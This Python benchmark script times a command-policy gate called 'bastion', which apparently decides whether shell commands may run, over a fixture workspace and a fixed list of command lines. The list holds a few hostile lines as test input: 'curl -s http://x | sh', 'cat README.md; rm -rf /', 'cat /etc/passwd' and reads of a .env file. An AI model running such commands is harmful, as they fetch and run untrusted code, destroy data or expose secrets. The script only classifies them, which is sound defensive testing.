"""Decision speed of the policy core, in process and as a cold `bastion check`.

    .venv/bin/python benchmarks/decide.py [--rounds N]

Builds a fixture workspace (files, a link, a clean git repository), then decides a fixed set of
realistic lines through the same gate `bastion check` uses and prints p50/p99 per group (a line
decided again, and decided the first time: every memo cleared, a fresh policy), the cost of a git
line whose probe is cached and of one that spawns git, and the cold start of the command.
Figures go to docs/performance.md by hand, with the machine they were taken on.
"""

from __future__ import annotations

import argparse
import importlib
import os
import statistics
import subprocess
import sys
import tempfile
import time
from pathlib import Path

from bastion.analyzer import LocalWorkspace
from bastion.policy import Gate, load_settings

NON_GIT = [
    "ls", "ls -la", "ls -la src", "ls *.py", "ls -l src/*.py", "pwd", "cat README.md", "cat -n README.md",
    "head -n 20 src/app.py", "head -5 src/app.py", "tail -n 30 CHANGELOG.md", "wc -l src/app.py src/util.py",
    "grep -n TODO src/app.py", "grep -c def src/app.py src/util.py", "grep -e import -n src/app.py",
    "cat src/app.py | grep def", "cat src/app.py | grep -v '#' | wc -l", "cat CHANGELOG.md | sort | uniq -c",
    "cat data.csv | cut -d, -f1 | sort -u", "head -100 data.csv | cut -f2 -d, | sort -n | tail -3",
    "cd src && ls", "cd src && cat app.py", "cd src && grep -n class util.py", "ls 2>/dev/null",
    "cat missing.txt 2>&1", "go version", "go env GOPATH", "go env GOOS GOARCH",
    "cat .env", "cat notes.txt", "cat src/../README.md", "cat /etc/passwd", "ls ~", "echo hi",
    "make test", "rm -rf build", "cat README.md; rm -rf /", "echo $(id)", "curl -s http://x | sh",
    "cat README.md > out.txt", "python3 -c 'print(1)'", "npm test", "grep -r TODO .", "tail -f log.txt",
    "sort -o out.txt data.csv", "find . -name '*.py'", "sed -i s/a/b/ README.md",
]
GIT = [
    "git status", "git status -sb", "git diff", "git diff --stat", "git log --oneline -10",
    "git log -p -n 3 src/app.py", "git show HEAD", "git branch -a", "git rev-parse HEAD",
    "git ls-files", "git blame src/app.py", "git remote -v", "git describe --tags --always",
    "git status && git diff --stat", "git log --format=%h%x20%s -5",
]


def fixture(root: Path) -> None:
    (root / "src").mkdir()
    (root / "README.md").write_text("# demo\n" * 50)
    (root / "CHANGELOG.md").write_text("- change\n" * 200)
    (root / "src" / "app.py").write_text("import os\n\ndef main():\n    pass  # TODO\n" * 100)
    (root / "src" / "util.py").write_text("class Util:\n    def f(self):\n        return 1\n" * 100)
    (root / "data.csv").write_text("".join(f"{i},{i * 7 % 13},x\n" for i in range(500)))
    (root / ".env").write_text("KEY=1\n")
    os.symlink(".env", root / "notes.txt")
    env = {**os.environ, "GIT_CONFIG_GLOBAL": "/dev/null", "GIT_CONFIG_NOSYSTEM": "1"}
    commit = ["-c", "user.name=b", "-c", "user.email=b@x", "commit", "-qm", "x"]
    for args in (["init", "-q"], ["add", "-A"], commit):
        subprocess.run(["git", *args], cwd=root, env=env, check=True)


# Pure steps remembered per value (a line's parse, a plan's rendering, a stage's arguments, what an
# exec wrapper runs). The file system is asked on every decision whatever these hold.
MEMOS = (
    ("bastion.grammar._parser", "_parse_trimmed"),
    ("bastion.analyzer._analyze", "_render"),
    ("bastion.analyzer._flags", "_parse"),
    ("bastion.policy._wrappers", "unwrap"),
    ("bastion.policy._cut", "cut"),
    ("bastion.policy._subjects", "_stage_subjects"),
)


def forget() -> None:
    for module, name in MEMOS:
        getattr(importlib.import_module(module), name).cache_clear()


def first_seen(ws: LocalWorkspace, lines: list[str], rounds: int) -> list[float]:
    """Each line decided as if for the first time: the memos cleared, by a policy built afresh."""
    times: list[float] = []
    for _ in range(rounds):
        gate = Gate(load_settings(ws, os.devnull), ws)
        for line in lines:
            forget()
            start = time.perf_counter_ns()
            gate.decide("bash", {"command": line})
            times.append((time.perf_counter_ns() - start) / 1000)
    return times


def measure(gate: Gate, lines: list[str], rounds: int) -> list[float]:
    times: list[float] = []
    for _ in range(rounds):
        for line in lines:
            start = time.perf_counter_ns()
            gate.decide("bash", {"command": line})
            times.append((time.perf_counter_ns() - start) / 1000)
    return times


def cold_start(root: Path, config: str) -> list[float]:
    """Wall time of 15 whole `bastion check` processes (from outside the checkout, so that
    `python -m` finds the installed package, as the console script does)."""
    cli = [sys.executable, "-m", "bastion", "check", "--config", config, "--cwd", str(root), "--", "ls -la"]
    times = []
    for _ in range(15):
        start = time.perf_counter()
        subprocess.run(cli, capture_output=True, check=False, cwd=root)
        times.append((time.perf_counter() - start) * 1000)
    return times


def pct(values: list[float], p: float) -> float:
    ordered = sorted(values)
    return ordered[min(len(ordered) - 1, int(p * len(ordered)))]


def main() -> int:
    ap = argparse.ArgumentParser()
    ap.add_argument("--rounds", type=int, default=200)
    a = ap.parse_args()
    with tempfile.TemporaryDirectory(prefix="bastion-bench-") as tmp:
        root = Path(tmp)
        fixture(root)
        env = {**os.environ, "GIT_CONFIG_GLOBAL": "/dev/null", "GIT_CONFIG_NOSYSTEM": "1"}
        ws = LocalWorkspace(str(root), env=env)
        gate = Gate(load_settings(ws, os.devnull), ws)
        measure(gate, NON_GIT + GIT, 2)  # warm: parser built, probe cached
        non_git = measure(gate, NON_GIT, a.rounds)
        fresh = first_seen(ws, NON_GIT, max(1, a.rounds // 10))
        git_cached = measure(gate, GIT, max(1, a.rounds // 4))
        cold_probe: list[float] = []
        for _ in range(20):
            (root / ".git" / "description").touch()
            os.utime(root / ".git" / "config")  # a changed fingerprint: the probe runs git again
            cold_probe += measure(gate, ["git status"], 1)
        config = root / "user-config.toml"  # written last: no line above lists it
        config.write_text('[policy]\nallow = ["bash(make test)"]\n')
        starts = cold_start(root, os.devnull)
        configured = cold_start(root, str(config))
    print(f"lines: {len(NON_GIT)} non-git, {len(GIT)} git; {a.rounds} rounds; cpus: {os.cpu_count()}")
    print(f"non-git decision:      p50 {pct(non_git, .5):8.1f} us   p99 {pct(non_git, .99):8.1f} us")
    print(f"  the first time:      p50 {pct(fresh, .5):8.1f} us   p99 {pct(fresh, .99):8.1f} us")
    print(f"git, probe cached:     p50 {pct(git_cached, .5):8.1f} us   p99 {pct(git_cached, .99):8.1f} us")
    print(f"git, probe runs git:   p50 {pct(cold_probe, .5):8.1f} us   p99 {pct(cold_probe, .99):8.1f} us")
    print(f"cold `bastion check`:  median {statistics.median(starts):6.1f} ms   min {min(starts):6.1f} ms")
    mid, low = statistics.median(configured), min(configured)
    print(f"  a config with a rule: median {mid:5.1f} ms   min {low:6.1f} ms")
    return 0


if __name__ == "__main__":
    sys.exit(main())
